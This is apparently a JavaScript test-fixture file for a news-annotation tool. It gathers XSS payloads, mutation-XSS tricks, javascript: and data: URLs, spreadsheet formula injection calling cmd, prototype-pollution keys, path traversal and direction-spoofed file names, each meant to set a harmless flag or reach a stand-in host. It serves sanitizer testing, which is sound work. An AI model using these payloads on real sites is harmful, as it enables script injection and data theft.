// Inputs that try to run a program, to reach another host, or to break out of the place where text stands.
// Whatever of them runs sets `ran`, opens a dialog or asks elsewhere.invalid for something.

const HOST = "https://elsewhere.invalid";

/** Markup, by what it tries. */
export const markup = {
  "a script": "<script>window.ran=1</script>",
  "a script with capitals and a slash": "<ScRiPt/x>window.ran=1</sCrIpT >",
  "a script of another host": `<script src="${HOST}/a.js"></script>`,
  "a script in an address": '<script src="data:text/javascript,window.ran=1"></script>',
  "a module": `<script type="module">import("${HOST}/a.js")</script>`,
  "a script in pieces": "<scr<script>ipt>window.ran=1</scr</script>ipt>",
  "a script that is not closed": "<p>Rain.</p><script>window.ran=1",
  "a handler": '<img src="x" onerror="window.ran=1">',
  "a handler without marks": "<img src=x onerror=window.ran=1>",
  "a handler that calls": "<img src=x onerror=alert(1)//>",
  "a handler behind slashes": "<img/src=x/onerror=window.ran=1>",
  "a handler behind form feeds": "<img\fsrc=x\fonerror=window.ran=1>",
  "a handler on a line of its own": "<img\nsrc=x\r\nonerror\n=\nwindow.ran=1>",
  "a handler in capitals": "<IMG SRC=x OnErRoR=window.ran=1>",
  "a handler behind a mark in a value": '<p title=a"b onclick=window.ran=1>Rain.</p>',
  "a handler behind a mark in a name": '<img a"b src=x onerror=window.ran=1>',
  "a handler behind a mark of the other kind": `<p title='a"' onclick='window.ran=1' lang=">">Rain.</p>`,
  "a handler behind an equals sign": '<img =" src=x onerror=window.ran=1>',
  "a handler behind a script with a mark": '<script>a<b "</script><img title=">" src=x onerror=window.ran=1>',
  "a handler behind a comment with a mark": '<!-- <b " --><img title=">" src=x onerror=window.ran=1>',
  "a handler behind a title with a mark": `<textarea><b '</textarea><img src=x onerror=window.ran=1>`,
  "a handler behind an ended comment": "<!--><img src=x onerror=window.ran=1>-->",
  "a handler behind a wrong comment": '<!-- --!><img src=x onerror=window.ran=1>',
  "a handler behind a processing instruction": '<?x "><img src=x onerror=window.ran=1>',
  "a handler in a tag that is not closed": "<img src=x onerror=window.ran=1 //",
  "a body that loads": "<body onload=window.ran=1>",
  "a field that takes the focus": "<input autofocus onfocus=window.ran=1>",
  "a fold that opens": "<details open ontoggle=window.ran=1><summary>Rain</summary></details>",
  "words that move": "<marquee onstart=window.ran=1>Rain</marquee>",
  "a change of style": "<style>@keyframes x{}</style><b style=animation-name:x onanimationstart=window.ran=1>Rain</b>",
  "sound": "<audio src=x onerror=window.ran=1></audio><video><source onerror=window.ran=1></video>",
  "a link that runs": '<a href="javascript:window.ran=1">Rain</a>',
  "a link that runs, written in entities": '<a href="&#106;avascript&colon;window.ran=1">Rain</a>',
  "a link that runs, with a tab in it": '<a href="java&Tab;script:window.ran=1">Rain</a>',
  "a link that runs, behind a control": '<a href="\u0001 javascript:window.ran=1">Rain</a>',
  "a link to data": '<a href="data:text/html,<script>opener.ran=1</script>">Rain</a>',
  "a picture that is a program": "<svg><script>window.ran=1</script></svg>",
  "a picture that loads": "<svg onload=window.ran=1></svg>",
  "a picture with a link": '<svg><a xlink:href="javascript:window.ran=1"><text y="9">Rain</text></a></svg>',
  "a picture that moves": "<svg><animate onbegin=window.ran=1 attributeName=x dur=1s></svg>",
  "a picture that sets": '<svg><a><set attributeName=href to="javascript:window.ran=1"/><text y="9">Rain</text></a></svg>',
  "a picture that uses another": `<svg><use href="${HOST}/a.svg#b"/><image href="${HOST}/a.png"/></svg>`,
  "a picture with style": '<svg></p><style><a id="</style><img src=x onerror=window.ran=1>">',
  "a picture with a comment": '<svg><style><!--</style><img src=x onerror=window.ran=1>--></svg>',
  "a picture with raw data": "<svg><![CDATA[<p title=']]><img src=x onerror=window.ran=1>'>]]></svg>",
  "a picture with a page": '<svg><foreignObject><iframe srcdoc="<script>parent.ran=1</script>"></iframe></foreignObject></svg>',
  "a formula with a link": '<math href="javascript:window.ran=1"><mi>x</mi></math>',
  "a formula that changes in parsing": "<form><math><mtext></form><form><mglyph><style></math><img src onerror=window.ran=1>",
  "a formula with a table": '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=window.ran=1&gt;">',
  "a template": "<template><img src=x onerror=window.ran=1><script>window.ran=1</script></template>",
  "a shadow": "<div><template shadowrootmode=open><img src=x onerror=window.ran=1></template></div>",
  "what stands where no script runs": '<noscript><p title="</noscript><img src=x onerror=window.ran=1>"></noscript>',
  "a text field": '<textarea><p title="</textarea><img src=x onerror=window.ran=1>"></textarea>',
  "a title": '<title><p title="</title><img src=x onerror=window.ran=1>"></title>',
  "an example": '<xmp><p title="</xmp><img src=x onerror=window.ran=1>"></xmp>',
  "what stands where no frame is": '<noembed><p title="</noembed><img src=x onerror=window.ran=1>"></noembed>',
  "a choice": "<select><option><style></option></select><img src=x onerror=window.ran=1></style>",
  "plain text": "<plaintext><img src=x onerror=window.ran=1>",
  "a page in a frame": `<iframe srcdoc="<script>parent.ran=1</script><img src='${HOST}/a.png'>"></iframe>`,
  "a frame that runs": '<iframe src="javascript:parent.ran=1"></iframe>',
  "a frame of another host": `<iframe src="${HOST}/"></iframe><frameset><frame src="${HOST}/"></frameset>`,
  "an object": `<object data="${HOST}/a.svg"></object><embed src="javascript:window.ran=1"><applet code="${HOST}/a"></applet>`,
  "style": `<style>@import "${HOST}/a.css"; p { background: url(${HOST}/a.png) }</style><p>Rain.</p>`,
  "style with a comment": `<style>/* <!-- */ @import "${HOST}/a.css";</style><p>The last words.</p>`,
  "style of one element": `<p style="background: url(${HOST}/a.png)">Rain.</p>`,
  "a sheet of style": `<link rel="stylesheet" href="${HOST}/a.css"><link rel="preload" as="script" href="${HOST}/a.js">`,
  "a word to the network": `<link rel="dns-prefetch" href="${HOST}"><link rel="preconnect" href="${HOST}"><link rel="prefetch" href="${HOST}/a">`,
  "a manifest": `<link rel="manifest" href="${HOST}/a.json"><link rel="icon" href="${HOST}/a.ico">`,
  "a page that moves on": `<meta http-equiv="refresh" content="0; url=${HOST}/">`,
  "a page that moves on to a program": '<meta http-equiv="refresh" content="0; url=javascript:window.ran=1">',
  "a policy": `<meta http-equiv="Content-Security-Policy" content="script-src * 'unsafe-inline'; img-src *">`,
  "a base": `<base href="${HOST}/" target="_blank"><img src="a.png">`,
  "a form": `<form action="javascript:window.ran=1"><input autofocus><button formaction="${HOST}/">Rain</button></form>`,
  "a form from afar": '<form id="x"></form><button form="x" formaction="javascript:window.ran=1">Rain</button>',
  "pictures": `<img src="${HOST}/a.png" srcset="${HOST}/b.png 2x"><picture><source srcset="${HOST}/c.png"><img></picture>`,
  "pictures behind words": `<body background="${HOST}/a.png"><table background="${HOST}/b.png"><td>Rain</td></table>`,
  "films": `<video poster="${HOST}/a.png" src="${HOST}/a.mp4" autoplay></video><input type="image" src="${HOST}/b.png">`,
  "a form that hides how it is removed": "<form><input name=remove><input name=textContent><input name=parentNode></form>",
  "pictures that hide how a page is searched": "<img name=querySelectorAll><img name=querySelector><img name=body><form name=documentElement></form>",
  "pictures that hide the page's own names": "<a id=trustedTypes></a><img name=defaultView><form id=location name=location></form>",
};

/** Text that would be markup, a program, a formula or a command in some other place. */
export const text = {
  "the end of a script": "</script><script>window.ran=1</script>",
  "the end of a comment": "--><img src=x onerror=window.ran=1>",
  "the end of an attribute": "\"'><img src=x onerror=window.ran=1>",
  "the end of raw data": "]]><script>window.ran=1</script>",
  "the end of a string": '"}];window.ran=1;//',
  "a template literal": "${window.ran=1}`+window.ran=1+`",
  "a template of pages": "{{constructor.constructor('window.ran=1')()}}<%= 1 %>#{1}",
  "escapes": "\\u003cscript\\u003ewindow.ran=1\\x3c/script>",
  "entities": "&lt;script&gt;window.ran=1&lt;/script&gt;&#60;img src=x onerror=window.ran=1&#62;",
  "another encoding": "+ADw-script+AD4-window.ran=1+ADw-/script+AD4-",
  "wide signs": "＜script＞window.ran=1＜/script＞",
  "a link of Markdown": "[the minister](javascript:window.ran=1)",
  "a link of Markdown in entities": "[the minister](&#106;avascript:window.ran=1)",
  "a picture of Markdown": `![the quay](${HOST}/a.png "a")`,
  "an address of Markdown": "<javascript:window.ran=1>",
  "a reference of Markdown": "[the minister][1]\n\n[1]: javascript:window.ran=1",
  "code of Markdown": "```html <img src=x onerror=window.ran=1>",
  "a formula": `=HYPERLINK("${HOST}/","x")`,
  "a formula that calls": "+cmd|' /C calc'!A0",
  "a formula that begins with an at sign": "@SUM(1+1)*cmd|' /C calc'!A0",
  "a formula behind a tab": "\t=1+1",
  "entries of a calendar": "END:VEVENT\\nBEGIN:VEVENT\\nURL:javascript:window.ran=1",
  "a turned direction": "\u202Egnp.\u202Dexe\u2066\u2067\u202C",
  "a name of all objects": "__proto__",
  "another name of all objects": "constructor.prototype.ran",
  "an enormous number": `${"9".repeat(400)}`,
  "an enormous year": "in 999999999999, on 31 February 99999, -292277022657-01-27 and 1e999 years later",
};

/** Words that are no address of a page and could do something as one. */
export const noAddresses = [
  "javascript:window.ran=1",
  "javascript://news.example/%0awindow.ran=1",
  "JaVaScRiPt:window.ran=1//a.b",
  "\u0001javascript:window.ran=1",
  "java\tscript:window.ran=1",
  "data:text/html,<script>window.ran=1</script>",
  "vbscript:window.ran=1",
  "blob:https://news.example/1",
  "file:///etc/hosts",
  "https://news.example/\"onclick=\"window.ran=1",
  "https://news.example/<script>",
  "//",
];

/** Names of files, without their endings. */
export const names = [
  '"><img src=x onerror=window.ran=1>',
  "..\\..\\harbour",
  "__proto__",
  "\u202Egnp.harbour",
  "=cmd|' /C calc'!A0",
];

/** An article with `words` as words, quoted, as part of a name, of an office and of the headline. */
export const article = (words) => `${words} closes the ferry

TANNET, March 3, 2021 - The harbour of Tannet reopened on Tuesday, and ${words} was found on the quay.

“We saw ${words} on Monday,” Harbour Minister Ines ${words} Caldry said on Wednesday.

“Nobody has seen it,” said Oda Lindquist, the ${words} minister of Tannet. Tom Ruddock, the mayor, said that ${words} would leave on Friday.
`;

/** A page with `markup` behind the first words of its article. */
export const htmlPage = (markup) =>
  `<html><body><h1>Ferry returns</h1><p>The harbour of Tannet reopened on 2 March 2021.</p>${markup}<p>Mayor Ada Finch said: “We are glad.”</p></body></html>`;

const subject = (kind, exact) => ({ kind, words: { exact, prefix: "", suffix: "", start: 4294967295 } });

/** A file of work about `text`, whose corrections try what a reader could not type. */
export const work = (text, words) => `{ "saywhen": 1, "engine": "saywhen 0.0.0", "__proto__": { "ran": 1 }, "constructor": { "prototype": { "ran": 1 } }, "text": ${JSON.stringify(text)},
  "edits": [
    ${JSON.stringify({ note: { of: subject("event", "reopened"), note: words } })},
    ${JSON.stringify({ name: { of: subject("entity", "Tom Ruddock"), name: words, role: words, organization: words, category: "government" } })},
    ${JSON.stringify({ date: { of: subject("event", "reopened"), value: "9".repeat(400) } })},
    ${JSON.stringify({ date: { of: subject("timex", "Tuesday"), value: words } })},
    ${JSON.stringify({ merge: { of: subject("entity", "__proto__"), into: subject("entity", words) } })},
    ${JSON.stringify({ published: { date: "+262142-12-31" } })},
    ${JSON.stringify({ published: { date: "-262143-01-01" } })},
    ${JSON.stringify({ published: { date: "2021-03-03" } })},
    ${JSON.stringify({ address: { url: "javascript:window.ran=1//news.example/" } })} ] }`;

/** Files of work that are broken in one way or another. */
export const broken = {
  "a key of all objects in place of work": '{ "__proto__": { "saywhen": 1 }, "text": "a" }',
  "numbers without end": `{ "saywhen": ${"9".repeat(400)}, "engine": "", "text": "", "edits": [] }`,
  "a number that is not whole": '{ "saywhen": 1e999, "engine": "", "text": "", "edits": [] }',
  "lists within lists": `{ "saywhen": 1, "engine": "", "text": "", "edits": ${"[".repeat(100000)} }`,
  "an unknown correction": '{ "saywhen": 1, "engine": "", "text": "a", "edits": [{ "__proto__": { "of": 1 } }] }',
  "a place before the beginning": '{ "saywhen": 1, "engine": "", "text": "a", "edits": [{ "note": { "of": { "kind": "event", "words": { "exact": "a", "prefix": "", "suffix": "", "start": -1 } }, "note": "" } }] }',
  "half of a sign": '{ "saywhen": 1, "engine": "", "text": "\\ud800", "edits": [] }',
  "markup in its place": "<script>window.ran=1</script>",
};
